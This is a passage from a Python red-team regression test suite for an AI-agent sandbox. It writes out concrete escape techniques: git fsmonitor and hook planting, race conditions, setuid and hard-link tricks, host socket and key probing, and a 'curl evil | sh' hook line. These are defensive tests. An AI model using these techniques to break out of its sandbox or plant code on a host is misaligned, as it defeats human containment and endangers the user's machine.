# SPDX-License-Identifier: MIT
"""Red-team regressions: things an attacker inside `agentbox run -p default` tried.

Each test plants something from inside (or races agentbox from outside the way
a second run or the user's own tools would) and then checks, on the host, that
nothing planted can run later outside the sandbox and that no host secret
crossed.  Payloads `touch` a marker in ctx.scratch: inside the sandbox that
path lies in the private /tmp, so only a payload that runs on the host can
create the host's marker (no false positives from git running inside).

Tests marked "weakness" below were open when written; see the red-team report.
"""

import json
import os
import stat
import subprocess
import time

from abtest import (known_gap, HOST_PATH, INNER_PY, NOBODY_GID, NOBODY_UID, describe, skip,
                    sh_quote as q, tree_listing, wait_for)


# ---------------------------------------------------------------- helpers

def _as_user(ctx, cmd):
    if ctx.uid != os.getuid():
        return ["setpriv", "--reuid=%d" % ctx.uid, "--regid=%d" % ctx.gid,
                "--clear-groups"] + list(cmd)
    return list(cmd)


def _host_git(ctx, *args, cwd=None):
    """git on the host as the test user, like the user's shell or prompt would.
    Does not assert success: a planted payload may make it fail."""
    cmd = _as_user(ctx, ["git", "-c", "safe.directory=*", "-c", "init.defaultBranch=main",
                         "-c", "user.name=host", "-c", "user.email=host@example.com",
                         "-c", "protocol.file.allow=always"] + list(args))
    env = {"PATH": HOST_PATH, "HOME": ctx.scratch, "LANG": "C.UTF-8",
           "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(cmd, cwd=cwd or ctx.ws, env=env, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, text=True, timeout=30)


def _repo(ctx, path=None):
    path = path or ctx.ws
    ctx.git_host("init", "-q", ".", cwd=path)
    ctx.host_file(os.path.join(path, "README"), "hello\n")
    ctx.git_host("add", "README", cwd=path)
    ctx.git_host("commit", "-q", "-m", "initial", cwd=path)


def _submodule(ctx):
    """The workspace a repository with a submodule `sub` (from a repository in
    scratch), committed on the host."""
    src = os.path.join(ctx.scratch, "subsrc")
    os.makedirs(src)
    if ctx.uid:
        os.chown(src, ctx.uid, ctx.gid)
    _repo(ctx, src)
    # a history of its own: _repo made the same commit in both when they ran
    # in the same second, so a clone of the workspace held the submodule's
    ctx.git_host("commit", "-q", "--allow-empty", "-m", "sub's own", cwd=src)
    _repo(ctx)
    r = _host_git(ctx, "submodule", "add", "-q", src, "sub")
    assert r.returncode == 0, "host git submodule add failed: %s" % r.stderr
    ctx.git_host("commit", "-q", "-m", "add sub")


def _marker(ctx):
    m = os.path.join(ctx.scratch, "pwned")
    return m, "touch %s; false" % m


def _assert_no_payload(ctx, marker, what):
    assert not os.path.exists(marker), \
        "%s: a payload planted inside the sandbox ran on the host" % what


def _setid_or_caps(root, own=None):
    """OWN: (uid, gid) whose set-id files are no finding (an unprivileged
    caller's own: test_seccomp_setid.py)."""
    bad = []
    for dp, dns, fns in os.walk(root):
        for n in dns + fns:
            p = os.path.join(dp, n)
            st = os.lstat(p)
            if stat.S_ISLNK(st.st_mode):
                continue
            if not stat.S_ISDIR(st.st_mode) and st.st_mode & (stat.S_ISUID | stat.S_ISGID) \
                    and own != (st.st_uid, st.st_gid):
                bad.append("%s mode %o" % (os.path.relpath(p, root), st.st_mode & 0o7777))
            if stat.S_ISCHR(st.st_mode) or stat.S_ISBLK(st.st_mode):
                bad.append("%s device node" % os.path.relpath(p, root))
            try:
                if "security.capability" in os.listxattr(p):
                    bad.append("%s file capabilities" % os.path.relpath(p, root))
            except OSError:
                pass
    return bad


# ---------------------------------------------------------------- git: code that host git runs

def test_git_commondir_redirect(ctx):
    """ESCAPE: $GIT_DIR/commondir makes git read config (core.fsmonitor) and
    hooks from another directory, which the sandbox can write."""
    _repo(ctx)
    marker, payload = _marker(ctx)
    ctx.sandbox("mkdir -p .git/x && cp -r .git/objects .git/refs .git/HEAD .git/x/ && "
                "cp .git/config .git/x/config && git config -f .git/x/config core.fsmonitor %s "
                "&& echo x > .git/commondir; true" % q(payload))
    _host_git(ctx, "status", "--porcelain")
    _assert_no_payload(ctx, marker, ".git/commondir")
    assert not os.path.exists(os.path.join(ctx.ws, ".git", "commondir")), \
        ".git/commondir written inside reached the host"


def test_git_config_worktree(ctx):
    """ESCAPE: with extensions.worktreeConfig (set by `git sparse-checkout`),
    git also reads $GIT_DIR/config.worktree, which is not protected."""
    _repo(ctx)
    ctx.git_host("config", "extensions.worktreeConfig", "true")
    marker, payload = _marker(ctx)
    ctx.sandbox("git config --worktree core.fsmonitor %s; true" % q(payload))
    _host_git(ctx, "status", "--porcelain")
    _assert_no_payload(ctx, marker, ".git/config.worktree")


def test_git_linked_worktree_gitfile(ctx):
    """ESCAPE: in a linked worktree `.git` is a file ("gitdir: ..."); the protect
    list skips it, so the sandbox replaces it with a repository of its own."""
    main = os.path.join(ctx.projects, "main")
    wt = os.path.join(ctx.projects, "wt")
    os.makedirs(main)
    if ctx.uid:
        os.chown(main, ctx.uid, ctx.gid)
    _repo(ctx, main)
    ctx.git_host("worktree", "add", "-q", wt, cwd=main)
    gitfile = open(os.path.join(wt, ".git")).read()
    marker, payload = _marker(ctx)
    ctx.sandbox("rm -f .git; git init -q . && git config core.fsmonitor %s; "
                "echo 'gitdir: .evil' > .git 2>/dev/null; true" % q(payload), ws=wt, cwd=wt)
    _host_git(ctx, "status", "--porcelain", cwd=wt)
    _assert_no_payload(ctx, marker, "worktree .git file")
    with open(os.path.join(wt, ".git")) as f:
        assert f.read() == gitfile, "the worktree's .git file was replaced from inside"


def test_git_submodule_config(ctx):
    """ESCAPE: an existing submodule's git dir lives in .git/modules/NAME, whose
    config and hooks are not protected."""
    _submodule(ctx)
    marker, payload = _marker(ctx)
    ctx.sandbox("git config -f .git/modules/sub/config core.fsmonitor %s; "
                "printf '#!/bin/sh\\n%s\\n' > .git/modules/sub/hooks/post-checkout; "
                "chmod +x .git/modules/sub/hooks/post-checkout; true" % (q(payload), payload))
    _host_git(ctx, "status", "--porcelain")
    _host_git(ctx, "submodule", "update", "--checkout", "--force")
    _assert_no_payload(ctx, marker, ".git/modules/sub")


def test_git_hooks_path_inside_workspace(ctx):
    """ESCAPE (husky, lefthook, `core.hooksPath .githooks`): the repository's
    hooks live in a workspace directory named by core.hooksPath, which stays
    writable although .git/hooks is protected."""
    _repo(ctx)
    ctx.host_file(os.path.join(ctx.ws, ".husky", "pre-commit"), "#!/bin/sh\nexit 0\n", 0o755)
    if ctx.uid:
        os.chown(os.path.join(ctx.ws, ".husky"), ctx.uid, ctx.gid)
    ctx.git_host("config", "core.hooksPath", ".husky")
    ctx.git_host("add", ".husky")
    ctx.git_host("commit", "-q", "-m", "hooks")
    marker, payload = _marker(ctx)
    ctx.sandbox("printf '#!/bin/sh\\n%s\\n' > .husky/pre-commit; true" % payload)
    ctx.host_file(os.path.join(ctx.ws, "f"), "x\n")
    ctx.git_host("add", "f")
    _host_git(ctx, "commit", "-q", "-m", "host commit")
    _assert_no_payload(ctx, marker, "core.hooksPath=.husky")


# ---------------------------------------------------------------- protections racing the host

def _wait_file(path, timeout=20):
    return wait_for(lambda: os.path.exists(path), timeout, 0.02)


def test_concurrent_run_keeps_protection(ctx):
    """ESCAPE: run B starts while run A is running in the same workspace.  B
    finds A's placeholders and binds them read-only; when A ends, A removes its
    placeholders on the host, which detaches B's read-only mounts (a mount
    point in another mount namespace can be removed), and B plants .envrc,
    .vscode/, .mcp.json and .claude/settings.json."""
    _repo(ctx)
    os.makedirs(os.path.join(ctx.ws, ".claude"))
    if ctx.uid:
        os.chown(os.path.join(ctx.ws, ".claude"), ctx.uid, ctx.gid)
    before = tree_listing(ctx.ws)
    a = ctx.popen(["run", "-p", "default", "-w", ctx.ws, "--", "sleep", "1"])
    assert _wait_file(os.path.join(ctx.ws, ".envrc")), "run A created no placeholder"
    script = ("i=0; while [ $i -lt 40 ]; do i=$((i+1)); "
              "if (echo evil > .envrc) 2>/dev/null; then break; fi; sleep 0.1; done; "
              "mkdir -p .vscode 2>/dev/null; echo evil > .vscode/tasks.json; "
              "echo evil > .mcp.json; echo evil > .claude/settings.json; true")
    ctx.sandbox(script)
    a.communicate(timeout=30)
    time.sleep(0.3)
    planted = [p for p in (".envrc", ".vscode/tasks.json", ".mcp.json", ".claude/settings.json")
               if os.path.isfile(os.path.join(ctx.ws, p))]
    assert not planted, "a concurrent run planted protected paths on the host: %s" % planted
    leftovers = set(tree_listing(ctx.ws)) - set(before)
    assert not leftovers, "placeholders left behind: %s" % sorted(leftovers)


def test_host_rewrite_keeps_protection(ctx):
    """Weakness: `git config` on the host (any atomic rename over .git/config,
    also an editor saving .envrc) replaces the inode the read-only bind covers;
    the bind is detached in the sandbox and .git/config becomes writable."""
    _repo(ctx)
    marker, payload = _marker(ctx)
    ready = os.path.join(ctx.ws, "ready")
    p = ctx.popen(["run", "-p", "default", "-w", ctx.ws, "--", "sh", "-c",
                   "touch ready; i=0; while [ $i -lt 30 ]; do i=$((i+1)); "
                   "git config core.fsmonitor %s 2>/dev/null && break; sleep 0.1; done; "
                   "true" % q(payload)])
    assert _wait_file(ready), "the sandbox never started"
    ctx.git_host("config", "user.name", "the user, on the host")
    p.communicate(timeout=30)
    with open(os.path.join(ctx.ws, ".git", "config")) as f:
        cfg = f.read()
    _host_git(ctx, "status", "--porcelain")
    assert "fsmonitor" not in cfg, ".git/config written from inside after a host rewrite"
    _assert_no_payload(ctx, marker, ".git/config after a host rewrite")


def test_host_rename_over_hidden_file(ctx):
    """Weakness: a file hidden by filesystem.deny inside a bound host directory
    is covered on its directory entry; a tool on the host that saves the real
    file by rename (a token refresh) detaches the cover in the sandbox.  The
    parent watches such covers and stops the sandbox (exit 125, naming the
    path).  The moment between the rename and the kill is a documented window
    (docs/threat-model.md): not tested here, it is a race."""
    secret = os.path.join(ctx.ws, "token.json")
    ctx.host_file(secret, '{"token": "old"}\n', 0o600)
    prof = ctx.host_file(os.path.join(ctx.scratch, "hide.json"), json.dumps(
        {"version": 1, "extends": "default",
         "filesystem": {"deny": ["${WORKSPACE}/token.json"]}}))
    p = ctx.popen(["run", "-p", prof, "-w", ctx.ws, "--", "sh", "-c",
                   "touch ready; i=0; while [ $i -lt 50 ]; do i=$((i+1)); sleep 0.2; done"])
    if not _wait_file(os.path.join(ctx.ws, "ready")):
        p.kill()
        raise AssertionError("the sandbox never started: %r" % (p.communicate()[1],))
    new = os.path.join(ctx.ws, ".token.json.tmp")
    with open(new, "w") as f:
        f.write('{"token": "%s"}\n' % ctx.token)
    os.rename(new, secret)
    out, err = (x.decode(errors="replace") for x in p.communicate(timeout=30))
    assert p.returncode == 125, (p.returncode, err)
    assert "protected or hidden path %s was replaced" % secret in err, err


# ---------------------------------------------------------------- agentbox's own state

def test_profile_in_workspace_not_writable(ctx):
    """ESCAPE (threat model 8): a profile loaded from the workspace (`-p ./x.json`)
    can be rewritten from inside, so the next run grants what the agent wants."""
    prof = ctx.host_file(os.path.join(ctx.ws, "agentbox.json"),
                         '{"version": 1, "extends": "default"}\n')
    before = open(prof).read()
    r = ctx.sandbox("echo '{\"version\": 1, \"filesystem\": {\"read\": [\"/\"]}}' > %s; true"
                    % q(prof), profile=prof)
    assert open(prof).read() == before or r.returncode == 125, \
        "the profile agentbox loaded was rewritten from inside\n" + describe(r)


# ---------------------------------------------------------------- host information

ADD_KEY_PY = r'''
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if sys.argv[1] == "add":
    r = libc.syscall(248, b"user", sys.argv[2].encode(), b"payload", 7, -4)  # add_key @u
    print(r)
else:
    libc.syscall(250, 21, int(sys.argv[2]))  # KEYCTL_INVALIDATE
'''


def test_proc_keys_hides_host_keys(ctx):
    """Weakness: /proc/keys lists every key the sandbox's kernel uid may view,
    including the host user's (descriptions and sizes)."""
    kuid = NOBODY_UID if os.geteuid() == 0 else os.getuid()  # the sandbox's host uid here
    def as_kuid(cmd):
        if os.geteuid() == 0:
            return ["setpriv", "--reuid=%d" % kuid, "--regid=%d" % NOBODY_GID,
                    "--clear-groups"] + cmd
        return cmd
    desc = "abit-key-" + ctx.token
    r = subprocess.run(as_kuid([INNER_PY, "-c", ADD_KEY_PY, "add", desc]),
                       stdout=subprocess.PIPE, text=True, timeout=10)
    serial = int(r.stdout.strip() or -1)
    if serial < 0:
        skip("cannot add a user key on this host")
    ctx.on_cleanup(lambda: subprocess.run(as_kuid([INNER_PY, "-c", ADD_KEY_PY, "del",
                                                   str(serial)]), timeout=10))
    r = ctx.sandbox("cat /proc/keys /proc/key-users 2>/dev/null; true", record=False)
    assert ctx.token not in r.stdout, "a host key's description is visible in /proc/keys"


def test_host_user_list_hidden(ctx):
    """Weakness: /etc/passwd is generated, but the host's backups /etc/passwd-
    and /etc/group- (world-readable) still list every host account."""
    names = set()
    for f in ("/etc/passwd-", "/etc/group-"):
        try:
            with open(f) as fh:
                names |= {l.split(":")[0] for l in fh if ":" in l}
        except OSError:
            pass
    names -= {"root", "nobody", "nogroup", "agent", ""}
    if not names:
        skip("no /etc/passwd- or /etc/group- with other accounts on this host")
    r = ctx.sandbox("cat /etc/passwd- /etc/group- 2>/dev/null; true")
    seen = {l.split(":")[0] for l in r.stdout.splitlines()} & names
    assert not seen, "host accounts visible inside: %s" % sorted(seen)[:10]


# ---------------------------------------------------------------- resources

def test_default_limits_bound_processes(ctx):
    """Weakness: the default profile sets no nproc limit (and cgroup pids limits
    need cgroup v2): a fork bomb inside exhausts the host's pid space."""
    out = ctx.py_json("import json, resource\n"
                      "print(json.dumps(resource.getrlimit(resource.RLIMIT_NPROC)))")
    soft = out[0]
    assert 0 <= soft <= 16384, "RLIMIT_NPROC inside is %s: nothing bounds a fork bomb" % (
        "unlimited" if soft < 0 else soft)


def test_private_tmpfs_bounded(ctx):
    """Weakness: /tmp, /var/tmp, /run, /dev/shm and the private home are each a
    tmpfs of the kernel's default size (half of RAM), together several times the
    host's memory, and tmpfs pages are not freed by the OOM killer."""
    out = ctx.py_json("import json, os\n"
                      "t = 0\n"
                      "for d in ('/tmp', '/var/tmp', '/run', '/dev/shm', os.environ['HOME']):\n"
                      "    s = os.statvfs(d); t += s.f_blocks * s.f_frsize\n"
                      "print(json.dumps(t))")
    with open("/proc/meminfo") as f:
        mem = int(f.readline().split()[1]) * 1024
    assert out <= mem // 2, "private tmpfs mounts may hold %.1f GiB, host RAM is %.1f GiB" % (
        out / 2 ** 30, mem / 2 ** 30)


# ---------------------------------------------------------------- blocked today (keep it so)

INIT_PY = r'''
import json, os
out = {}
for n in ("environ", "mem", "fd", "root/", "cwd", "exe", "maps"):
    p = "/proc/1/" + n
    try:
        if n in ("fd", "root/"):
            os.listdir(p)
        elif n in ("cwd", "exe"):
            os.readlink(p)
        else:
            open(p, "rb").read(64)
        out[n] = "OK"
    except OSError as e:
        out[n] = e.strerror
print(json.dumps(out))
'''


def test_init_is_opaque(ctx):
    """pid 1 inside is agentbox's child: its memory holds the host environment
    and it owns the sync socket to the parent.  None of it is reachable."""
    out = ctx.py_json(INIT_PY)
    opened = [k for k, v in out.items() if v == "OK"]
    assert not opened, "pid 1 introspection possible inside: %s" % opened


SETID_PY = r'''
import ctypes, json, os, stat
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *a):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return "OK" if r >= 0 else os.strerror(ctypes.get_errno())
B = lambda s: ctypes.c_char_p(s.encode())
AT = -100
out = {}
open("plain", "w").write("#!/bin/sh\n")
out["openat_creat"] = sc(257, AT, B("o_suid"), os.O_CREAT | os.O_WRONLY, 0o4755)
out["creat"] = sc(85, B("c_sgid"), 0o2755)
fd = libc.syscall(257, AT, B("."), os.O_TMPFILE | os.O_WRONLY, 0o6755)
out["o_tmpfile"] = "OK" if fd >= 0 else os.strerror(ctypes.get_errno())
if fd >= 0:
    out["o_tmpfile_link"] = sc(265, AT, B("/proc/self/fd/%d" % fd), AT, B("tmp_suid"), 0x400)
out["mknodat_reg"] = sc(259, AT, B("mk_suid"), stat.S_IFREG | 0o4755, 0)
out["mknodat_chr"] = sc(259, AT, B("mk_null"), stat.S_IFCHR | 0o666, os.makedev(1, 3))
out["mkdirat"] = sc(258, AT, B("d_sgid"), 0o2755)
out["chmod"] = sc(90, B("plain"), 0o4755)
out["fchmodat"] = sc(268, AT, B("plain"), 0o2755)
out["fchmodat2"] = sc(452, AT, B("plain"), 0o6755, 0)
f = os.open("plain", os.O_RDONLY)
out["fchmod"] = sc(91, f, 0o4755)
out["fchmod_hibits"] = sc(91, f, 0o4755 | (1 << 40))
try:
    os.setxattr("plain", "security.capability",
                bytes([1, 0, 0, 2]) + b"\xff" * 4 + b"\0" * 12)
    out["setcap"] = "OK"
except OSError as e:
    out["setcap"] = e.strerror
print(json.dumps(out))
'''


def test_no_setid_or_caps_by_any_syscall(ctx):
    """Set-id bits and file capabilities through every mode-taking syscall
    (openat O_CREAT, O_TMPFILE + linkat, creat, mknodat, mkdirat, chmod family
    incl. fchmodat2, high bits in the mode) and the security.capability xattr."""
    r = ctx.py(SETID_PY)
    assert r.returncode == 0, describe(r)
    bad = _setid_or_caps(ctx.ws, own=(ctx.uid, ctx.gid) if ctx.uid != 0 else None)
    assert not bad, "set-id/caps/device files from inside are on the host: %s\n%s" % (
        bad, r.stdout)


LINK_PY = r'''
import json, os
out = {}
for src in ("/etc/passwd", "/usr/bin/su", "/etc/shadow", "/proc/self/exe", "/dev/null"):
    try:
        os.link(src, "l" + str(len(out)))
        out[src] = "OK"
    except OSError as e:
        out[src] = e.strerror
print(json.dumps(out))
'''


def test_no_hardlinks_to_outside(ctx):
    """A hard link in the workspace to a file outside it would let the host's
    tools (or a later run) reach that file through the workspace."""
    out = ctx.py_json(LINK_PY)
    made = [k for k, v in out.items() if v == "OK"]
    assert not made, "hard links to outside files created inside: %s" % made
    for dp, dns, fns in os.walk(ctx.ws):
        for n in fns:
            st = os.lstat(os.path.join(dp, n))
            assert st.st_nlink == 1 or stat.S_ISDIR(st.st_mode), \
                "%s has %d links on the host" % (n, st.st_nlink)


EXCHANGE_PY = r'''
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
os.mkdir("decoy_d"); open("decoy_f", "w").write("evil\n")
out = {}
for a, b in ((".git/config", "decoy_f"), (".git/hooks", "decoy_d"), (".git", "decoy_d"),
             (".vscode", "decoy_d"), (".envrc", "decoy_d")):
    r = libc.syscall(316, -100, ctypes.c_char_p(a.encode()), -100,
                     ctypes.c_char_p(b.encode()), 2)  # renameat2 RENAME_EXCHANGE
    out["exchange " + a] = "OK" if r == 0 else os.strerror(ctypes.get_errno())
    try:
        os.rename(b, a)
        out["rename onto " + a] = "OK"
    except OSError as e:
        out["rename onto " + a] = e.strerror
print(json.dumps(out))
'''


def test_protected_paths_exchange_and_replace(ctx):
    """renameat2(RENAME_EXCHANGE) and rename-over on protected paths, their
    placeholders and pinned parents."""
    _repo(ctx)
    cfg = open(os.path.join(ctx.ws, ".git", "config")).read()
    out = ctx.py_json(EXCHANGE_PY)
    done = [k for k, v in out.items() if v == "OK"]
    assert not done, "protected paths moved inside: %s" % done
    assert open(os.path.join(ctx.ws, ".git", "config")).read() == cfg
    for p in (".envrc", ".vscode"):
        assert not os.path.lexists(os.path.join(ctx.ws, p)), "%s left on the host" % p


def test_hardlinked_protected_file_refused(ctx):
    """A protected file with another name (a hard link made while it was not
    protected) would stay writable through that name: agentbox refuses."""
    _repo(ctx)
    cfg = os.path.join(ctx.ws, ".git", "config")
    other = os.path.join(ctx.ws, "notes.txt")
    os.link(cfg, other)
    ctx.on_cleanup(lambda: os.path.exists(other) and os.unlink(other))
    r = ctx.sandbox("echo '[core] fsmonitor = evil' >> notes.txt; true")
    assert r.returncode == 125 and "hard links" in r.stderr, describe(r)
    assert "fsmonitor" not in open(cfg).read(), ".git/config written through a hard link"


def test_hardlinked_file_in_protected_dir_refused(ctx):
    """The same for a file inside a protected directory (.husky/ is protected
    when present): a hook with a second name in the workspace is refused."""
    _repo(ctx)
    hook = ctx.host_file(os.path.join(ctx.ws, ".husky", "pre-commit"), "#!/bin/sh\nexit 0\n", 0o755)
    if ctx.uid:
        os.chown(os.path.join(ctx.ws, ".husky"), ctx.uid, ctx.gid)
    os.link(hook, os.path.join(ctx.ws, "h.txt"))
    r = ctx.sandbox("echo 'curl evil | sh' >> h.txt; true")
    assert r.returncode == 125 and "hard links" in r.stderr, describe(r)
    assert "evil" not in open(hook).read(), "a protected hook was written through a hard link"


# ------------------------------------------------------- host unix sockets

class _HostSocket:
    """A host process's socket (this test process is the host): a stream
    listener that answers every connection with its tag, or a bound datagram
    socket that counts what it receives."""

    def __init__(self, ctx, path, dgram=False, bind_as=None):
        import socket
        import threading
        self.path, self.got = path, []
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM if dgram else socket.SOCK_STREAM)
        self.s.bind(bind_as or path)
        os.chmod(path, 0o777)  # without the mask, any user could connect
        ctx.on_cleanup(self.close)
        if not dgram:
            self.s.listen(8)
        self.s.settimeout(0.2)
        self.stop = False
        self.t = threading.Thread(target=self._serve, args=(dgram,), daemon=True)
        self.t.start()

    def _serve(self, dgram):
        while not self.stop:
            try:
                if dgram:
                    self.got.append(self.s.recv(100))
                else:
                    c, _ = self.s.accept()
                    c.sendall(b"HOST-DAEMON\n")
                    c.close()
            except OSError:
                continue

    def close(self):
        self.stop = True
        self.t.join(2)
        self.s.close()


_SOCK_PY = r'''
import json, os, socket, sys
out = {}
def try_stream(p):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(3)
    try:
        s.connect(p)
        return "connected: %r" % s.recv(100)
    except OSError as e:
        return "refused: %s" % e.strerror
    finally:
        s.close()
for p in sys.argv[2:]:
    out[p] = try_stream(p)
d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
try:
    d.sendto(b"from-inside", sys.argv[1])
    out["dgram"] = "sent"
except OSError as e:
    out["dgram"] = "refused: %s" % e.strerror
# a socket of the sandbox's own, in the workspace: works
own = os.path.join(os.getcwd(), "own.sock")
l = socket.socket(socket.AF_UNIX)
l.bind(own)
l.listen(1)
c = socket.socket(socket.AF_UNIX)
c.connect(own)
a, _ = l.accept()
a.sendall(b"own")
out["own"] = c.recv(10).decode()
os.unlink(own)
print(json.dumps(out))
'''


def test_host_unix_sockets_hidden(ctx):
    """A host process's unix socket inside a grant (the workspace, a
    read-only grant, reached through a symlinked directory) is hidden: the
    sandbox cannot connect to it or send to it, while its own sockets in the
    workspace work; explain lists them; the host's sockets are untouched."""
    state = os.path.join(ctx.scratch, "state")
    os.makedirs(state)
    real = os.path.join(ctx.ws, "real")
    os.makedirs(real)
    os.symlink("real", os.path.join(ctx.ws, "link"))
    for d in (state, real):
        os.chmod(d, 0o755)
        if ctx.uid:
            os.chown(d, ctx.uid, ctx.gid)
    ws_sock = _HostSocket(ctx, os.path.join(ctx.ws, "daemon.sock"))
    dg = _HostSocket(ctx, os.path.join(state, "dgram.sock"), dgram=True)
    _HostSocket(ctx, os.path.join(real, "l.sock"), bind_as=os.path.join(ctx.ws, "link", "l.sock"))
    targets = [ws_sock.path, os.path.join(ctx.ws, "link", "l.sock"), os.path.join(real, "l.sock")]
    r = ctx.sandbox([INNER_PY, "-c", _SOCK_PY, dg.path] + targets, extra_args=["--read", state])
    assert r.returncode == 0, describe(r)
    out = json.loads(r.stdout.strip().splitlines()[-1])
    problems = ["%s: %s" % (p, out[p]) for p in targets if not out[p].startswith("refused")]
    if out["dgram"] != "sent" and not out["dgram"].startswith("refused"):
        problems.append("datagram: %s" % out["dgram"])
    time.sleep(0.3)
    if dg.got:
        problems.append("the host's datagram socket received %r from inside" % dg.got)
    if out["own"] != "own":
        problems.append("the sandbox's own socket in the workspace: %r" % out["own"])
    e = ctx.run(["explain", "-p", "default", "-w", ctx.ws, "--read", state])
    for p in (ws_sock.path, dg.path, os.path.join(real, "l.sock")):
        if p not in e.stdout:
            problems.append("explain does not list %s" % p)
    import socket
    s = socket.socket(socket.AF_UNIX)
    s.connect(ws_sock.path)
    if s.recv(100) != b"HOST-DAEMON\n":
        problems.append("the host's own socket stopped working")
    s.close()
    assert not problems, "\n".join(problems) + "\n" + describe(r)


_LATER_PY = r"""
import json, os, socket, struct, sys, time
go, targets = sys.argv[1], sys.argv[2:]
for _ in range(400):
    if os.path.exists(go):
        break
    time.sleep(0.05)
out = {}
def stream(p, blocking=True):
    s = socket.socket(socket.AF_UNIX)
    s.setblocking(blocking)
    try:
        s.connect(p)
        s.settimeout(3)
        return "connected: %r" % s.recv(100)
    except OSError as e:
        return "refused: %s" % e.strerror
    finally:
        s.close()
for p in targets:
    out[p] = stream(p)
    out[p + " (non-blocking)"] = stream(p, False)
os.chdir(os.path.dirname(targets[0]))
out["relative"] = stream(os.path.basename(targets[0]))
os.symlink(targets[0], "mine.link")
out["own symlink"] = stream("mine.link")
sq = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
try:
    sq.connect(targets[0]); out["seqpacket"] = "connected"
except OSError as e:
    out["seqpacket"] = "refused: %s" % e.strerror
# the sandbox's own server, bound now by another process: blocking and not
own = os.path.join(os.getcwd(), "own-later.sock")
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    l = socket.socket(socket.AF_UNIX); l.bind(own); l.listen(4); os.write(w, b"x")
    for _ in range(2):
        a, _ = l.accept()
        # the peer a server inside sees: the sandbox's own uid and gid
        _, uid, gid = struct.unpack("3i", a.getsockopt(socket.SOL_SOCKET,
                                                       socket.SO_PEERCRED, 12))
        ok = (uid, gid) == (os.getuid(), os.getgid())
        a.sendall(b"own" if ok else b"peer %d:%d" % (uid, gid)); a.close()
    os._exit(0)
os.read(r, 1)
out["own"] = stream(own)
out["own (non-blocking)"] = stream(own, False)
os.waitpid(pid, 0)
# an abstract socket of its own: works; TCP to a port loopback_ports does
# not list: still refused by the sandbox's Landlock rules
a = socket.socket(socket.AF_UNIX); a.bind("\0ab-later-%d" % os.getpid()); a.listen(1)
b = socket.socket(socket.AF_UNIX); b.connect("\0ab-later-%d" % os.getpid())
out["own abstract"] = "connected: b'own'"
t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(1)
u = socket.socket()
try:
    u.connect(t.getsockname()); out["tcp to an unlisted port"] = "connected"
except OSError as e:
    out["tcp to an unlisted port"] = "refused: %s" % e.strerror
try:
    socket.socket(socket.AF_UNIX).connect(os.path.join(os.getcwd(), "absent.sock"))
except OSError as e:
    out["absent"] = e.strerror
# a blocking connect to a listener whose backlog is full waits for room
import threading
full = os.path.join(os.getcwd(), "full.sock")
l2 = socket.socket(socket.AF_UNIX); l2.bind(full); l2.listen(0)
fill = []
while len(fill) < 8:
    c = socket.socket(socket.AF_UNIX); c.setblocking(False)
    try:
        c.connect(full); fill.append(c)
    except BlockingIOError:
        break
got = {}
def late():
    b = socket.socket(socket.AF_UNIX)
    try:
        b.connect(full); got["b"] = "connected"
    except OSError as e:
        got["b"] = e.strerror
t = threading.Thread(target=late); t.start(); time.sleep(0.5)
waited = t.is_alive()
for _ in fill:
    l2.accept()
t.join(10)
out["backlog"] = "waited, then %s" % got.get("b") if waited else "did not wait: %r" % got
print(json.dumps(out))
"""


def _run_later(ctx, targets, host_sockets, extra_args=(), ablate=None):
    """Start the sandbox, then bind HOST_SOCKETS ((path, bind_as) pairs) on
    the host, then let the sandbox try TARGETS; ABLATE: the test-only build
    without that layer."""
    import threading
    go = os.path.join(ctx.ws, "go-later")
    cmd = ["run", "-p", "default", "-w", ctx.ws] + list(extra_args) + \
        ["--", INNER_PY, "-c", _LATER_PY, go] + targets
    if ablate:
        import abtest
        binary = os.path.join(os.path.dirname(abtest.BINARY), "agentbox-ablate")
        assert os.access(binary, os.X_OK), "build agentbox-ablate with make"
        cmd = [binary] + cmd
        if ctx.uid != os.getuid():
            cmd = ["setpriv", "--reuid=%d" % NOBODY_UID, "--regid=%d" % NOBODY_GID,
                   "--clear-groups"] + cmd
        env = {"PATH": HOST_PATH, "LANG": "C.UTF-8", "HOME": ctx.home,
               "AGENTBOX_TEST_ABLATE": ablate}

        def work():
            return subprocess.run(cmd, env=env, cwd=ctx.ws, stdin=subprocess.DEVNULL,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                  text=True, timeout=90)
    else:
        def work():
            return ctx.run(cmd, timeout=90)
    res = {}
    t = threading.Thread(target=lambda: res.setdefault("r", work()))
    t.start()
    time.sleep(1.5)
    for path, bind_as in host_sockets:
        _HostSocket(ctx, path, bind_as=bind_as)
    ctx.host_file(go, "")
    t.join(120)
    return res["r"]


def test_host_unix_socket_bound_later(ctx):
    """A host process binds sockets inside grants after the sandbox started
    (in the workspace, in a read-only grant, through a symlinked directory):
    connect is mediated, so none is reachable, blocking or not, by a relative
    path, through a symbolic link the sandbox makes, as SOCK_SEQPACKET; the
    sandbox's own sockets bound meanwhile and abstract ones still work, and
    TCP to a port loopback_ports does not list stays refused (Landlock);
    the audit log names the refusals."""
    state = os.path.join(ctx.scratch, "state-later")
    real = os.path.join(ctx.ws, "real")
    for d in (state, real):
        os.makedirs(d)
        os.chmod(d, 0o755)
        if ctx.uid:
            os.chown(d, ctx.uid, ctx.gid)
    os.symlink("real", os.path.join(ctx.ws, "link"))
    ws_sock = os.path.join(ctx.ws, "later.sock")
    ro_sock = os.path.join(state, "later.sock")
    via = os.path.join(ctx.ws, "link", "l.sock")
    log = os.path.join(ctx.scratch, "later.log")
    r = _run_later(ctx, [ws_sock, ro_sock, via],
                   [(ws_sock, None), (ro_sock, None), (os.path.join(real, "l.sock"), via)],
                   extra_args=["--read", state, "--log", log])
    assert r.returncode == 0, describe(r)
    out = json.loads(r.stdout.strip().splitlines()[-1])
    problems = []
    for k, v in out.items():
